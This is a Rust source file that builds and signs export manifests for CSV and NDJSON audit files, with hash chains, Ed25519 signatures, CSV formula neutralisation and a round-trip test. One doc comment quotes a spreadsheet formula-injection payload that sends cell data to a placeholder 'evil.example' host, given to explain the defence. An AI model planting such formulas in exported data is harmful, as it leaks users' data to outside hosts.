//! The manifest an auditor checks a file against: what was asked for (filters), what
//! came out (rows, keys, time range) and the SHA-256 of the content.

use super::port::ExportFilter;
use crate::base::canonical::canonical_json;
use crate::base::time::micros;
use crate::evidence::keys::key_id;
use crate::evidence::{ExportEvidence, Proofs, TrustedKeys};
use chrono::{DateTime, Utc};
use ed25519_dalek::{Signer, SigningKey};
use serde::{Deserialize, Serialize};
use std::fmt;
use std::str::FromStr;

pub(crate) const MANIFEST_VERSION: u32 = 1;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Format {
    Csv,
    Ndjson,
}

impl Format {
    pub fn as_str(self) -> &'static str {
        match self {
            Format::Csv => "csv",
            Format::Ndjson => "ndjson",
        }
    }

    pub fn content_type(self) -> &'static str {
        match self {
            // RFC 4180 registers the `header` parameter.
            Format::Csv => "text/csv; charset=utf-8; header=present",
            Format::Ndjson => "application/x-ndjson; charset=utf-8",
        }
    }

    /// What the manifest's `sha256` covers, in words, so the manifest explains itself.
    pub(crate) fn sha256_covers(self) -> &'static str {
        match self {
            Format::Csv => "every byte of the CSV file, header row included",
            Format::Ndjson => {
                "every byte of the file before the manifest line (all attempt lines, each with its newline)"
            }
        }
    }
}

impl fmt::Display for Format {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for Format {
    type Err = String;
    fn from_str(s: &str) -> Result<Format, String> {
        match s {
            "csv" => Ok(Format::Csv),
            "ndjson" => Ok(Format::Ndjson),
            other => Err(format!("format must be csv or ndjson, not {other:?}")),
        }
    }
}

/// How CSV cells are written. A cell that starts with `=`, `+`, `-` or `@` (or a
/// tab or CR, which spreadsheets skip before one of those) is run as a formula by
/// Excel, LibreOffice and Google Sheets when the file is opened: a user-supplied
/// reason such as `=HYPERLINK("https://evil.example?"&A1)` would send data away.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum CsvCells {
    /// The default. OWASP's rule: such a cell gets a leading `'`, which spreadsheets
    /// show as text. A cell already starting with `'` gets one too, so taking exactly
    /// one `'` off every cell that starts with one gives the stored value back: verify
    /// does that before checking the chains.
    Neutralised,
    /// Every cell as stored (`?raw=true`, `--csv-raw`; and files from before this
    /// field, whose manifests lack it).
    Raw,
}

impl CsvCells {
    const TRIGGERS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];

    /// What is written before the cell in the file: `'` for a cell that is
    /// neutralised, else nothing.
    pub fn mark(self, cell: &str) -> &'static str {
        match self {
            CsvCells::Neutralised if cell.starts_with(Self::TRIGGERS) => "'",
            _ => "",
        }
    }

    /// The stored value of a cell read from the file.
    pub fn read(self, cell: &str) -> &str {
        match self {
            // Every cell that starts with `'` in such a file was given one.
            CsvCells::Neutralised => cell.strip_prefix('\'').unwrap_or(cell),
            CsvCells::Raw => cell,
        }
    }
}

/// Why the file exists: an export someone asked for, or rows the pruner archived
/// before deleting them.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Source {
    Export,
    Archive,
}

/// Serialised as the last NDJSON line (with `"type": "manifest"`), as the CSV
/// sidecar `FILE.manifest.json`, and by `GET /export/attempts.manifest`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Manifest {
    pub manifest_version: u32,
    pub source: Source,
    pub format: Format,
    pub generator: String,
    #[serde(with = "micros")]
    pub generated_at: DateTime<Utc>,
    pub filters: ExportFilter,
    /// Rows are sorted by key, then seq: each key's chain is contiguous.
    pub order: String,
    pub row_count: u64,
    pub key_count: u64,
    #[serde(with = "micros::option")]
    pub first_occurred_at: Option<DateTime<Utc>>,
    #[serde(with = "micros::option")]
    pub last_occurred_at: Option<DateTime<Utc>>,
    pub sha256: String,
    pub sha256_covers: String,
    /// How each row's `hash` is computed, for a reader who has only the file.
    pub hash_chain: String,
    /// The newest signed checkpoint and the inclusion proof of each exported key's
    /// checkpointed head (absent before the first checkpoint).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub evidence: Option<ExportEvidence>,
    /// CSV only: whether formula-like cells carry a leading `'` (absent: raw).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub csv_cells: Option<CsvCells>,
    /// The manifest signed with the checkpoint signing key (an export by a server
    /// that signs checkpoints, or `idemwatch export --signing-key`): what the file
    /// claims to hold (filters, counts, digest, checkpoint) becomes the signer's
    /// statement, so a file cut down with its manifest recomputed no longer verifies.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub signature: Option<ManifestSignature>,
}

/// `signature` of a manifest (docs/EXPORT.md, "Signed manifests").
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ManifestSignature {
    /// The signing key's id, as in checkpoints.
    pub key_id: String,
    /// What is signed, for a reader who has only the file.
    pub covers: String,
    /// Ed25519, 128 lowercase hex digits.
    pub ed25519: String,
}

const SIGNING_CONTEXT: &str = "idemwatch manifest v1\n";

pub(crate) const SIGNATURE_COVERS: &str = "Ed25519 over \"idemwatch manifest v1\\n\" + JCS(RFC 8785) of this manifest \
    without `signature` (and without the NDJSON line's `type`), with `evidence.proofs` replaced by their \
    number; see docs/EXPORT.md";

pub const ORDER: &str = "key, seq";

pub(crate) const HASH_CHAIN: &str = "hash = lowercase hex SHA-256 of (prev_hash + \"\\n\" + JCS(RFC 8785) of \
    {key, tenant, tool, seq, kind, fencing_token, actor, detail, duration_ms, occurred_at}); \
    a key's first row has prev_hash = 64 zeros; see docs/EXPORT.md";

impl Manifest {
    /// The manifest in the form of a `.manifest.json` sidecar or HTTP answer.
    pub fn to_pretty_json(&self) -> String {
        let mut text = serde_json::to_string_pretty(self).expect("a manifest always serialises");
        text.push('\n');
        text
    }

    /// [`Manifest::to_pretty_json`] written straight to `out`: with checkpoint evidence a
    /// whole export's manifest holds a proof a key (~1.7 kB), so it is not built twice.
    pub(crate) fn write_pretty(&self, out: impl std::io::Write) -> std::io::Result<()> {
        use std::io::Write as _;
        let mut out = std::io::BufWriter::new(out);
        serde_json::to_writer_pretty(&mut out, self)?;
        out.write_all(b"\n")?;
        out.flush()
    }

    pub(crate) fn time_filtered_start(&self) -> bool {
        self.filters.since.is_some()
    }

    /// The bytes the signature covers ([`SIGNATURE_COVERS`]). The proofs are left
    /// out (each is checked against the signed checkpoint's root anyway, and a whole
    /// export's would have to be held in memory): their number stays.
    fn signed_message(&self) -> Vec<u8> {
        // Field by field rather than `self.clone()`: a manifest read back from a whole
        // export holds ~1.7 kB of proof a key, which must not be copied to be left out.
        let unsigned = Manifest {
            manifest_version: self.manifest_version,
            source: self.source,
            format: self.format,
            generator: self.generator.clone(),
            generated_at: self.generated_at,
            filters: self.filters.clone(),
            order: self.order.clone(),
            row_count: self.row_count,
            key_count: self.key_count,
            first_occurred_at: self.first_occurred_at,
            last_occurred_at: self.last_occurred_at,
            sha256: self.sha256.clone(),
            sha256_covers: self.sha256_covers.clone(),
            hash_chain: self.hash_chain.clone(),
            evidence: self.evidence.as_ref().map(|e| ExportEvidence {
                checkpoint: e.checkpoint.clone(),
                proofs: Proofs::Listed(Vec::new()),
                uncovered_keys: e.uncovered_keys,
            }),
            csv_cells: self.csv_cells,
            signature: None,
        };
        let proofs = self.evidence.as_ref().map(|e| e.proofs.len());
        let mut value = serde_json::to_value(&unsigned).expect("a manifest serialises");
        if let Some(n) = proofs {
            value["evidence"]["proofs"] = n.into();
        }
        let text = canonical_json(&value).expect("a manifest is canonicalisable");
        format!("{SIGNING_CONTEXT}{text}").into_bytes()
    }

    /// Signs the manifest as it is now (its last change).
    pub fn sign(&mut self, key: &SigningKey) {
        self.signature = None;
        let signature = key.sign(&self.signed_message());
        self.signature = Some(ManifestSignature {
            key_id: key_id(&key.verifying_key()),
            covers: SIGNATURE_COVERS.into(),
            ed25519: hex::encode(signature.to_bytes()),
        });
    }

    /// Checks the signature with the trusted key it names: `None` when the manifest
    /// is not signed.
    pub fn check_signature(&self, trusted: &TrustedKeys) -> Option<Result<(), String>> {
        let signature = self.signature.as_ref()?;
        Some(trusted.verify(
            "the manifest",
            &signature.key_id,
            &self.signed_message(),
            &signature.ed25519,
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::export::encode::Encoder;
    use crate::export::tests::sample;

    #[test]
    fn a_signed_manifest_verifies_after_a_round_trip_and_not_once_changed() {
        let mut out = Vec::new();
        let filter = ExportFilter::default();
        let mut e = Encoder::start(Format::Ndjson, Source::Export, filter, &mut out);
        e.row(&sample(), &mut out);
        let mut manifest = e.manifest(None);
        let key = SigningKey::from_bytes(&[9; 32]);
        manifest.sign(&key);
        let trusted = TrustedKeys::new([key.verifying_key()]);
        let back: Manifest = serde_json::from_str(&manifest.to_pretty_json()).unwrap();
        assert_eq!(back.check_signature(&trusted), Some(Ok(())));

        let mut cut = back.clone();
        cut.row_count -= 1;
        assert!(cut.check_signature(&trusted).unwrap().is_err());
        let stranger = TrustedKeys::new([SigningKey::from_bytes(&[8; 32]).verifying_key()]);
        let refused = back.check_signature(&stranger).unwrap().unwrap_err();
        assert!(refused.contains("not a trusted key"), "{refused}");
        manifest.signature = None;
        assert_eq!(manifest.check_signature(&trusted), None);
    }
}
